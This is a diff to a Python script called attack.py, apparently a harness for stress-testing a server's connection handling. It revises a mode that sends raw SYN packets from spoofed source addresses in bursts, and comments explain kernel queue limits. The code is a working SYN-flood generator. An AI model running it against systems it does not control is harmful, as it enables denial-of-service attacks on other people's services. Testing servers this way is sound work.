@@ -8,7 +8,7 @@
   attack.py HOST PORT flood           connections made and left, as fast as they can be
   attack.py HOST PORT resets N        connections that send N bytes and are reset (SO_LINGER 0), as fast as they can be
   attack.py HOST PORT crowd N         N clients; whoever is turned away comes again
-  attack.py HOST PORT syns            SYNs from sources of the same /24 that never answer (a raw socket)
+  attack.py HOST PORT syns            SYNs from sources in 198.18.0.0/24 that never answer (a raw socket); HOST needs a route there, see syns()
 
 It prints `begun` once the attack is under way, goes on until its standard input ends, and then prints one line of `key=value`: how often
 it did what it does. Everything is left behind as it is: the end of this program is the end of its clients. `--source ADDRESS` is
@@ -200,16 +200,22 @@ def syn(source, target, port):
     return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), 0, 0, 64, 6, 0, socket.inet_aton(source), socket.inet_aton(target)) + head
 
 
+# All networks of a machine share a queue for each of its CPUs (net.core.netdev_max_backlog, 1000 packets). What fills it takes packets away
+# from whatever else runs there, so there is time between two bursts for the kernel to have seen the first. For the same reason the sources
+# are behind a router, who throws the SYN-ACKs away. Were they neighbours, nobody would answer for them (arp(7)), and after three seconds
+# the kernel would tell itself of every SYN-ACK, all at once, that its host is unreachable.
+BURST, PAUSE = 200, 0.004
+
+
 def syns(args):
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    network = args.host.rpartition(".")[0]
-    packets = [syn("%s.%d" % (network, 100 + i % 100), args.host, args.port) for i in range(5000)]
+    packets = [syn("198.18.0.%d" % (1 + i % 100), args.host, args.port) for i in range(25 * BURST)]
     begun()
     sent = 0
-    while not stop.is_set():
-        for packet in packets:
-            raw.sendto(packet, (args.host, 0))
-        sent += len(packets)
+    while not stop.wait(PAUSE):
+        for _ in range(BURST):
+            raw.sendto(packets[sent % len(packets)], (args.host, 0))
+            sent += 1
     return "syns=%d" % sent
 
 
